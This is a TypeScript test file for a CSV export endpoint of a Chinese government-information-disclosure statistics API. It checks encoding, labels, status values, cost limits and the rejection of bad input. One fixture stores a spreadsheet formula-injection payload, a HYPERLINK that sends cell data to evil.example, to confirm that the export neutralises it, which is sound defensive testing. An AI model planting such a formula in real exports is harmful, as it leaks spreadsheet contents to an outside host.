import { parse } from 'csv-parse/sync';
import { storeReport } from '../support/factories';
import { startHttpServer, type HttpTestServer } from '../support/http';

let server: HttpTestServer;
beforeAll(async () => {
  server = await startHttpServer('sqlite', async (dataSource) => {
    await storeReport(dataSource, { jurisdiction: '440303', year: 2022, organ: '深圳市罗湖区人民政府', values: { 'applications.new.total': 12, 'outcome.total.total': 10 } });
    await storeReport(dataSource, { jurisdiction: '440304', year: 2022, organ: '深圳市福田区人民政府', values: { 'applications.new.total': 30, 'outcome.total.total': null } });
    // Stored past the importer's checks (as data from before them would be): a source URL that is a formula.
    await storeReport(dataSource, { jurisdiction: '440305', year: 2022, organ: '深圳市南山区人民政府', values: { 'applications.new.total': -3 } }, { sourceUrl: '=HYPERLINK("http://evil.example/?"&A1,"report")' });
  });
});
afterAll(() => server.close());

describe('GET /export/cells.csv', () => {
  it('exports the cells request as UTF-8 CSV with a BOM, labels, units, statuses and source URLs', async () => {
    const response = await fetch(`${server.url}/export/cells.csv?childrenOf=440300&indicators=applications.new.total,outcome.total.total&from=2022&to=2022&measure=OWN`);
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(bytes.subarray(3).toString('utf8'), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(9 * 2);
    const luohu = rows.find((r) => r.jurisdiction_code === '440303' && r.indicator_code === 'applications.new.total');
    expect(luohu).toMatchObject({ jurisdiction_name: '罗湖区', label_zh: '一、本年新收政府信息公开申请数量（总计）', unit: '件', year: '2022', value: '12', status: 'VALUE' });
    expect(luohu?.label_en).toBeTruthy();
    expect(luohu?.source_urls).toMatch(/^https:\/\/example\.org\/report\/\d+$/);
    expect(rows.find((r) => r.jurisdiction_code === '440304' && r.indicator_code === 'outcome.total.total')).toMatchObject({ value: '', status: 'BLANK' });
    expect(rows.find((r) => r.jurisdiction_code === '440306')).toMatchObject({ value: '', status: 'MISSING', source_urls: '' });
  });

  it('neutralises text a spreadsheet would run as a formula (a leading apostrophe); numbers stay numbers', async () => {
    const response = await fetch(`${server.url}/export/cells.csv?jurisdictions=440305&indicators=applications.new.total&from=2022&to=2022&measure=OWN`);
    const rows = parse(Buffer.from(await response.arrayBuffer()).subarray(3).toString('utf8'), { columns: true }) as Record<string, string>[];
    expect(rows[0].source_urls).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"report")`);
    expect(rows[0].value).toBe('-3');
  });

  it('refuses an export over OGI_MAX_COST before computing it, and NUL in a parameter', async () => {
    const big = await fetch(`${server.url}/export/cells.csv?level=PREFECTURE&indicators=applications.new.total,outcome.total.total&from=2014&to=2024&measure=ROLLUP`);
    expect(big.status).toBe(400);
    expect(((await big.json()) as { errors: { extensions: { code: string } }[] }).errors[0].extensions.code).toBe('QUERY_TOO_COSTLY');
    const nul = await fetch(`${server.url}/export/cells.csv?childrenOf=440300%00&indicators=applications.new.total&from=2022&to=2022`);
    expect(nul.status).toBe(400);
    expect(((await nul.json()) as { errors: { message: string; extensions: { code: string } }[] }).errors[0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT', argument: 'childrenOf' } });
  });

  it('answers bad parameters with 400 and a code', async () => {
    const response = await fetch(`${server.url}/export/cells.csv?childrenOf=440300&indicators=applications.new.total&from=20&to=2022`);
    expect(response.status).toBe(400);
    const body = (await response.json()) as { errors: { extensions: { code: string } }[] };
    expect(body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
  });
});
